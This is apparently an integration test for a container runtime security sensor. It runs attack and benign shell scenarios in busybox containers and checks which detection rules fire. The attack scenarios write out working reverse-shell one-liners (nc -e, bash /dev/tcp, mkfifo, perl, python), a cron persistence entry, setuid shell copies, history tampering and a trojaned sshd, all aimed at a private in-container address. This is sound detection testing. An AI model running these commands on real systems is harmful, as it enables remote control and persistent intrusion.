package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tripline/tripline/internal/alert"
	"github.com/tripline/tripline/internal/event"
	"github.com/tripline/tripline/internal/fields"
	"github.com/tripline/tripline/internal/rules"
	"github.com/tripline/tripline/internal/testenv"
)

// ruleScenario is one shell script run as the entrypoint of its own busybox
// container.
type ruleScenario struct {
	name   string
	script string
	// want lists rules of which at least one must fire at Warning or above
	// (at Error or above with atError) for an attack; it is empty for
	// benign scenarios, which must raise nothing at Warning or above.
	want    []string
	atError bool
	// privileged containers get CAP_NET_ADMIN in their own network
	// namespace, to bring up loopback and a private address to talk to.
	privileged bool
	netHost    bool
	env        []string
	// needs names a host program the scenario runs (skipped without it),
	// or a field or event type its rule relies on: when this build does not
	// supply that, a silent scenario is reported as pending, not failed.
	needs string
	ids   []string // one container per run
}

// netSetup gives a privileged container's own network namespace a working
// loopback and a private address, 10.250.0.1, that stays inside it.
const netSetup = "ip link set lo up; ip addr add 10.250.0.1/32 dev lo; "

// TestAttackScenariosInContainers runs common attacks and ordinary activity
// inside real busybox containers under a private containerd while `sensor
// run --rules rules/` watches: every attack must raise its rule at Warning or
// above (Error for writes below system directories), and the ordinary
// activity must raise nothing at Warning or above.
func TestAttackScenariosInContainers(t *testing.T) {
	dir, sock, rootfs := containerTestEnv(t)
	have := map[string]bool{}
	for _, bin := range []string{"bash", "perl", "python3"} {
		have[bin] = addHostProgram(rootfs, bin) == nil
	}
	testenv.Require(t, have["bash"], "bash to copy into the container")
	healthPort := freePort(t)

	attacks := []ruleScenario{
		{name: "busybox nc -e reverse shell", want: []string{"Netcat remote code execution"}, privileged: true,
			script: netSetup + "httpd -p 10.250.0.1:4444 -h /tmp; nc 10.250.0.1 4444 -e /bin/sh"},
		{name: "busybox nc -e reverse shell under timeout", want: []string{"Netcat remote code execution"}, privileged: true,
			script: netSetup + "httpd -p 10.250.0.1:4444 -h /tmp; timeout 2 nc 10.250.0.1 4444 -e /bin/sh"},
		{name: "busybox nc -e through the multi-call binary", want: []string{"Netcat remote code execution"}, privileged: true,
			script: netSetup + "httpd -p 10.250.0.1:4444 -h /tmp; timeout 2 busybox nc 10.250.0.1 4444 -e /bin/sh"},
		{name: "bash -i >& /dev/tcp typed into a shell", want: []string{"Outbound connection from shell"}, privileged: true,
			script: netSetup + "httpd -p 10.250.0.1:8443 -h /tmp; echo 'bash -i >& /dev/tcp/10.250.0.1/8443 0>&1' | timeout 2 bash"},
		{name: "bash -c with /dev/tcp", want: []string{"Reverse shell via dev tcp redirection"}, privileged: true,
			script: netSetup + "httpd -p 10.250.0.1:8443 -h /tmp; timeout 2 bash -c 'bash -i >& /dev/tcp/10.250.0.1/8443 0>&1'"},
		{name: "mkfifo and nc reverse shell", want: []string{"Reverse shell through a named pipe"}, privileged: true,
			script: netSetup + "httpd -p 10.250.0.1:8443 -h /tmp; timeout 2 sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.250.0.1 8443 > /tmp/f'"},
		{name: "perl socket one-liner", want: []string{"Reverse shell one-liner in scripting language"}, needs: "perl",
			script: `perl -e 'use Socket;$i="10.250.0.1";$p=8443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'; true`},
		{name: "python pty one-liner", want: []string{"Reverse shell one-liner in scripting language"}, needs: "python3",
			script: `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.250.0.1",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'; true`},
		{name: "write below /etc", want: []string{"Write to system directory in container"}, atError: true,
			script: "echo 'evil=1' > /etc/tripline-test.conf"},
		{name: "cron entry below /etc/cron.d", want: []string{"Write to system directory in container"}, atError: true,
			script: "mkdir -p /etc/cron.d; echo '* * * * * root nc 10.250.0.1 4444 -e /bin/sh' > /etc/cron.d/tl-update"},
		{name: "binary planted below /usr/local/bin", want: []string{"Write to system directory in container"}, atError: true,
			script: "mkdir -p /usr/local/bin; cp /bin/busybox /usr/local/bin/kworker"},
		{name: "library dropped below /lib", want: []string{"Write to system directory in container"}, atError: true,
			script: "mkdir -p /lib; echo x > /lib/libprocesshider.so"},
		{name: "bash history truncated with : >", want: []string{"Shell history tampering"},
			script: "echo ls >> /root/.bash_history; : > /root/.bash_history"},
		{name: "ash history emptied with cat /dev/null", want: []string{"Shell history tampering"},
			script: "cd /root && echo ls >> .ash_history && cat /dev/null > .ash_history"},
		// This busybox runs ln, chmod, rm and cp inside the shell's child
		// without exec; under `timeout` they exec (through /proc/self/exe,
		// so proc.name is "exe") as they do on distributions. The in-process
		// forms need the link, unlink and chmod syscalls.
		{name: "history linked to /dev/null (ln exec)", want: []string{"Shell history tampering"},
			script: "timeout 5 ln -sf /dev/null /root/.bash_history"},
		{name: "history linked to /dev/null (symlink syscall)", want: []string{"Shell history tampering"}, needs: "symlinkat",
			script: "echo ls >> /root/.zsh_history; ln -sf /dev/null /root/.zsh_history"},
		{name: "history deleted (unlink syscall)", want: []string{"Shell history tampering"}, needs: "unlinkat",
			script: "echo ls >> /root/.sh_history; rm -f /root/.sh_history"},
		{name: "API server port 6443 on loopback", want: []string{"Contact K8S API server from container"}, privileged: true,
			script: netSetup + "httpd -p 127.0.0.1:6443 -h /tmp; echo GET | timeout 2 nc 127.0.0.1 6443; true"},
		{name: "kubernetes.default by name", want: []string{"Contact K8S API server from container"},
			script: "wget -q -T 1 -O /dev/null https://kubernetes.default.svc/api; true"},
		{name: "API server address from KUBERNETES_SERVICE_HOST", want: []string{"Contact K8S API server from container"},
			privileged: true, needs: "proc.env",
			env:    []string{"KUBERNETES_SERVICE_HOST=10.250.0.1", "KUBERNETES_SERVICE_PORT=443"},
			script: netSetup + "httpd -p 10.250.0.1:443 -h /tmp; echo GET | timeout 2 nc 10.250.0.1 443; true"},
		{name: "setuid copy of a shell (chmod exec)", want: []string{"Setuid or setgid bit set"},
			script: "cp /bin/busybox /tmp/.sh && timeout 5 chmod u+s /tmp/.sh"},
		{name: "setuid copy of a shell (chmod syscall)", want: []string{"Setuid or setgid bit set"}, needs: "chmod",
			script: "cp /bin/busybox /tmp/.sh2 && chmod 4755 /tmp/.sh2"},
		{name: "trojan moved over a system binary (rename syscall)", want: []string{"System directory changed in container"},
			needs: "rename", atError: true, script: "mkdir -p /usr/sbin; cp /bin/busybox /tmp/sshd; mv /tmp/sshd /usr/sbin/sshd"},
	}
	benign := []ruleScenario{
		{name: "tar archive and extract", script: "mkdir -p /tmp/src/d /tmp/out && echo a > /tmp/src/d/f && " +
			"tar -cf /tmp/a.tar -C /tmp src && tar -xf /tmp/a.tar -C /tmp/out && tar -czf /tmp/a.tgz -C /tmp src"},
		{name: "shell loops", script: `i=0; while [ $i -lt 20 ]; do i=$((i+1)); echo $i > /tmp/count; done; ` +
			`for f in a b c; do sh -c "echo $f" > /dev/null; done; bash -c 'for i in 1 2 3; do :; done'`},
		{name: "reading /etc", script: "cat /etc/passwd /etc/group > /dev/null; grep -q root /etc/passwd; ls -la /etc > /dev/null; " +
			"id > /dev/null; true"},
		{name: "writing to /tmp", script: "echo hi > /tmp/out.txt; mkdir -p /tmp/d; mv /tmp/out.txt /tmp/d/; rm -rf /tmp/d"},
		{name: "CI job script", script: "printf 'set -eu\\necho build\\nmkdir -p /tmp/build\\ncd /tmp/build\\n" +
			"echo int main > main.c\\ntar -cf out.tar main.c\\nenv > /dev/null\\n' > /tmp/ci.sh; sh -e /tmp/ci.sh; " +
			"bash -ec 'cd /tmp/build; ls > /dev/null'"},
		{name: "health check to loopback", netHost: true, script: fmt.Sprintf("mkdir -p /tmp/www && echo ok > /tmp/www/index.html && "+
			"httpd -p 127.0.0.1:%[1]d -h /tmp/www && wget -q -O /dev/null http://127.0.0.1:%[1]d/index.html && "+
			"bash -c '</dev/tcp/127.0.0.1/%[1]d'", healthPort)},
		{name: "log rotation", script: "mkdir -p /var/log/app; for i in 1 2 3; do echo line >> /var/log/app/app.log; done; " +
			"mv /var/log/app/app.log /var/log/app/app.log.1; gzip -f /var/log/app/app.log.1; touch /var/log/app/app.log"},
	}

	d := startSensor(t, "run", "--rules", "../../rules", "--data-dir", filepath.Join(dir, "data"),
		"--output", "stdout", "--metrics-addr", "", "--containerd-socket", sock, "--coalesce", "0")
	seen := newAlertLog(d.stdout)

	run := func(s *ruleScenario) {
		id := randomID(t)
		s.ids = append(s.ids, id)
		args := []string{"--address", sock, "run", "--rm"}
		if s.privileged {
			args = append(args, "--privileged")
		}
		if s.netHost {
			args = append(args, "--net-host")
		}
		for _, e := range s.env {
			args = append(args, "--env", e)
		}
		args = append(args, "--rootfs", rootfs, id, "/bin/sh", "-c", s.script)
		if out, err := exec.Command("ctr", args...).CombinedOutput(); err != nil {
			t.Logf("%s: ctr run: %v\n%s", s.name, err, out) // scripts may fail; the alerts decide
		}
	}
	// A few containers at a time; each has its own id, so alerts cannot mix.
	runAll := func(list []*ruleScenario) {
		var wg sync.WaitGroup
		sem := make(chan struct{}, 4)
		for _, s := range list {
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer func() { <-sem; wg.Done() }()
				run(s)
			}()
		}
		wg.Wait()
	}
	// Benign first: the attacks' alerts, which arrive after the benign
	// scenarios' events, are the barrier for asserting silence.
	var quiet, live []*ruleScenario
	for i := range benign {
		quiet = append(quiet, &benign[i])
	}
	runAll(quiet)
	for i := range attacks {
		s := &attacks[i]
		if _, prog := have[s.needs]; prog && !have[s.needs] {
			if testenv.InCI() {
				t.Errorf("%s: %s not installed on this host, and CI=true forbids skipping it", s.name, s.needs)
			} else {
				t.Logf("SKIP %s: %s not installed on this host", s.name, s.needs)
			}
			continue
		}
		live = append(live, s)
	}
	runAll(live)

	fired := func(s *ruleScenario) bool {
		for _, a := range seen.of(s.ids...) {
			if slices.Contains(s.want, a.rule) && a.prio.AtLeast(s.minPriority()) {
				return true
			}
		}
		return false
	}
	report := func() string {
		var b strings.Builder
		fmt.Fprintf(&b, "%-48s %-8s %s\n", "ruleScenario", "result", "alerts at Warning or above")
		for _, s := range live {
			result := "FIRED"
			switch {
			case fired(s):
			case pending(s):
				result = "PENDING"
			default:
				result = "MISSED"
			}
			fmt.Fprintf(&b, "%-48s %-8s %s\n", s.name, result, seen.summary(s.ids...))
		}
		for _, s := range benign {
			result := "SILENT"
			if seen.summary(s.ids...) != "" {
				result = "LOUD"
			}
			fmt.Fprintf(&b, "%-48s %-8s %s\n", s.name, result, seen.summary(s.ids...))
		}
		return b.String()
	}
	// The machine may be busy enough for the ring buffer to drop events
	// (the sensor then raises "syscall event drop"); an attack that did not
	// show up is run again, twice at most, in a new container.
	done := func(s *ruleScenario) bool { return fired(s) || pending(s) }
	for attempt := 1; ; attempt++ {
		if poll(20*time.Second, func() bool { return !slices.ContainsFunc(live, func(s *ruleScenario) bool { return !done(s) }) }) {
			break
		}
		if attempt == 3 {
			t.Fatalf("attacks did not raise their alerts after %d attempts:\n%s\nsensor log:\n%s", attempt, report(), d.log)
		}
		var again []*ruleScenario
		for _, s := range live {
			if !done(s) {
				t.Logf("%s: no alert yet, running it again (drops so far: %d)", s.name, seen.drops())
				again = append(again, s)
			}
		}
		runAll(again)
	}

	for _, s := range live {
		if pending(s) && !fired(s) {
			t.Logf("%s: waits for %s, which this build does not supply", s.name, s.needs)
		}
	}
	for _, s := range benign {
		if loud := seen.summary(s.ids...); loud != "" {
			t.Errorf("ordinary activity %q raised alerts at Warning or above: %s", s.name, loud)
		}
	}
	t.Logf("scenarios:\n%s", report())
	d.stop(t)
}

func (s *ruleScenario) minPriority() alert.Priority {
	if s.atError {
		return alert.PriorityError
	}
	return alert.PriorityWarning
}

// poll reports whether cond became true within d, checking every 50ms.
func poll(d time.Duration, cond func() bool) bool {
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	deadline := time.After(d)
	for !cond() {
		select {
		case <-tick.C:
		case <-deadline:
			return cond()
		}
	}
	return true
}

// pending reports whether a scenario's rule relies on a field or an event
// type this build does not supply.
func pending(s *ruleScenario) bool {
	if s.needs == "" {
		return false
	}
	if f, ok := fields.Lookup(s.needs); ok {
		return len(f.Classes) == 0
	}
	_, represented := event.ParseType(s.needs)
	return rules.IsFalcoEventType(s.needs) && !represented
}

type seenAlert struct {
	rule string
	prio alert.Priority
}

// alertLog collects the sensor's JSON alerts by container id.
type alertLog struct {
	mu    sync.Mutex
	byID  map[string][]seenAlert
	nDrop int
}

func (l *alertLog) drops() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.nDrop
}

func newAlertLog(sc *bufio.Scanner) *alertLog {
	l := &alertLog{byID: map[string][]seenAlert{}}
	go func() {
		for sc.Scan() {
			var a struct {
				Rule     string         `json:"rule"`
				Priority string         `json:"priority"`
				Fields   map[string]any `json:"output_fields"`
			}
			if json.Unmarshal(sc.Bytes(), &a) != nil {
				continue
			}
			id, _ := a.Fields["container.id"].(string)
			p, err := alert.ParsePriority(a.Priority)
			l.mu.Lock()
			if strings.Contains(a.Rule, "event drop") {
				l.nDrop++
			}
			if id == "" || err != nil {
				l.mu.Unlock()
				continue
			}
			l.byID[id] = append(l.byID[id], seenAlert{a.Rule, p})
			l.mu.Unlock()
		}
	}()
	return l
}

// of returns the alerts of the containers with the given full ids.
func (l *alertLog) of(fullIDs ...string) []seenAlert {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []seenAlert
	for _, id := range fullIDs {
		out = append(out, l.byID[id[:12]]...)
	}
	return out
}

// summary lists the distinct rules that fired at Warning or above.
func (l *alertLog) summary(fullIDs ...string) string {
	set := map[string]bool{}
	for _, a := range l.of(fullIDs...) {
		if a.prio.AtLeast(alert.PriorityWarning) {
			set[fmt.Sprintf("%s (%s)", a.rule, a.prio)] = true
		}
	}
	out := make([]string, 0, len(set))
	for k := range set {
		out = append(out, k)
	}
	sort.Strings(out)
	return strings.Join(out, ", ")
}

// randomID returns a 64-hex container id, the form the sensor recognises in
// cgroup paths.
func randomID(t *testing.T) string {
	b := make([]byte, 32)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// addHostProgram copies a dynamically linked host program and the shared
// libraries ldd lists into rootfs, at the paths the program expects.
func addHostProgram(rootfs, name string) error {
	path, err := exec.LookPath(filepath.Join("/usr/bin", name)) // not a version manager's shim
	if err != nil {
		if path, err = exec.LookPath(name); err != nil {
			return err
		}
	}
	real, err := filepath.EvalSymlinks(path)
	if err != nil {
		return err
	}
	out, err := exec.Command("ldd", real).Output()
	if err != nil {
		return fmt.Errorf("ldd %s: %w", real, err)
	}
	files := map[string]string{filepath.Join("/usr/bin", name): real}
	if name == "bash" {
		files["/bin/bash"] = real
	}
	for _, line := range strings.Split(string(out), "\n") {
		f := strings.Fields(line)
		switch {
		case len(f) >= 3 && f[1] == "=>" && strings.HasPrefix(f[2], "/"):
			files[f[2]] = f[2]
		case len(f) >= 1 && strings.HasPrefix(f[0], "/"):
			files[f[0]] = f[0]
		}
	}
	for dst, src := range files {
		data, err := os.ReadFile(src)
		if err != nil {
			return err
		}
		target := filepath.Join(rootfs, dst)
		if err := os.MkdirAll(filepath.Dir(target), 0o755); err != nil {
			return err
		}
		if existing, err := os.ReadFile(target); err == nil && bytes.Equal(existing, data) {
			continue
		}
		_ = os.Remove(target) // never write through a busybox applet link
		if err := os.WriteFile(target, data, 0o755); err != nil {
			return err
		}
	}
	return nil
}
